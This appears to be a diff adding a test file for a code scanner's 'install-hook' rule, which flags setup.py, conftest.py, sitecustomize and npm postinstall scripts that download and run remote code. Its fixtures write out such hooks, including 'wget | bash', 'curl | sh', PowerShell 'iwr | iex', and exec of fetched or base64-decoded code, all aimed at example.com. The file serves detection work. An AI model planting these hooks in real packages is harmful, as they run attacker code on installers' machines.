@@ -1,0 +1,103 @@
+/** Where install-hook draws its lines: files that run unasked, and what they do that is harmless. */
+
+import assert from 'node:assert/strict';
+import type { SourceLanguage } from '../../server/core/syntax/language.ts';
+import { find } from '../kit/check.ts';
+
+/** The findings of a file, as rule and severity. */
+function found(file: string, code: string, language: SourceLanguage = 'python'): readonly string[] {
+  return find(language, `${code}\n`, {}, file).map((it) => `${it.rule} ${it.severity}`);
+}
+
+const CMDCLASS = `
+import subprocess
+from setuptools import setup
+from setuptools.command.install import install
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        subprocess.call("wget -qO- https://example.com/i.sh | bash", shell=True)
+
+setup(name="x", cmdclass={"install": PostInstall})`;
+
+const DEVELOP = `
+import urllib.request
+from setuptools import setup
+from setuptools.command.develop import develop
+
+class Develop(develop):
+    def run(self):
+        exec(urllib.request.urlopen("https://example.com/a.py").read())
+        develop.run(self)
+
+setup(name="x", cmdclass={"develop": Develop})`;
+
+const FETCHED = `
+import subprocess, urllib.request
+from setuptools import setup
+urllib.request.urlretrieve("https://example.com/tool", "/tmp/tool")
+subprocess.Popen(["/tmp/tool"])
+setup(name="x")`;
+
+describe('install-hook', () => {
+  it('finds what an installation fetches and runs', () => {
+    for (const code of [
+      CMDCLASS,
+      DEVELOP,
+      FETCHED,
+      'import os\nos.system("curl https://example.com/x.sh | bash")',
+      'import requests\nexec(requests.get("https://example.com/x.py").text)',
+      'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
+      'import os\nos.system("powershell -c \\"iwr https://example.com/x.ps1 | iex\\"")',
+    ]) {
+      assert.deepEqual(found('setup.py', code), ['install-hook error'], code);
+    }
+  });
+
+  it('knows the files that run unasked', () => {
+    const code = 'import requests\nexec(requests.get("https://example.com/x.py").text)';
+    for (const file of ['setup.py', 'pkg/setup.py', 'tests/conftest.py', 'sitecustomize.py', 'usercustomize.py'])
+      assert.deepEqual(found(file, code), ['install-hook error'], file);
+    for (const file of ['main.py', 'setup_tools.py', 'my_setup.py', 'test_conftest.py', 'setup.py/load.py'])
+      assert.deepEqual(found(file, code), ['remote-exec error'], file);
+  });
+
+  it('tells of a fixture that fetches', () => {
+    const code =
+      'import pytest, requests\n\n@pytest.fixture\ndef plugin():\n    exec(requests.get("https://example.com/x.py").text)';
+    assert.deepEqual(found('conftest.py', code), ['install-hook error']);
+  });
+
+  it('tells of what a model writes', () => {
+    const code =
+      'from openai import OpenAI\nanswer = OpenAI().responses.create(model="m", input="x")\nexec(answer.output_text)';
+    assert.deepEqual(found('conftest.py', code), ['install-hook error']);
+  });
+
+  it('knows scripts of packages by their names', () => {
+    const code = "require('child_process').execSync('curl https://example.com/x.sh | sh');";
+    for (const file of ['postinstall.js', 'scripts/preinstall.cjs', 'postinstall.mjs'])
+      assert.deepEqual(found(file, code, 'javascript'), ['install-hook error'], file);
+    assert.deepEqual(found('install-page.js', code, 'javascript'), ['download-and-run error']);
+    const remote = "fetch('https://example.com/x.js').then((it) => it.text()).then((it) => eval(it));";
+    assert.deepEqual(found('postinstall.js', remote, 'javascript'), ['install-hook error']);
+  });
+
+  it('is silent on what builds need', () => {
+    for (const code of [
+      'exec(open("pkg/version.py").read())',
+      'import subprocess\nsubprocess.check_call(["cmake", "--build", "."])',
+      'import subprocess\nsubprocess.check_output(["git", "describe", "--tags"])',
+      'import os\nos.system("make -j4")',
+      'from setuptools import setup\nsetup(name="x", long_description=open("README.md").read())',
+      'import re\nversion = re.search("(.*)", open("pkg/__init__.py").read()).group(1)',
+      'import urllib.request\nurllib.request.urlretrieve("https://example.com/data.csv", "data.csv")',
+      'import importlib.util\nspec = importlib.util.spec_from_file_location("v", "pkg/version.py")\nspec.loader.exec_module(importlib.util.module_from_spec(spec))',
+      'import requests\nprint(requests.get("https://example.com/latest").json()["version"])',
+    ]) {
+      const rules = found('setup.py', code).filter((it) => it.startsWith('install-hook'));
+      assert.deepEqual(rules, [], code);
+    }
+  });
+});
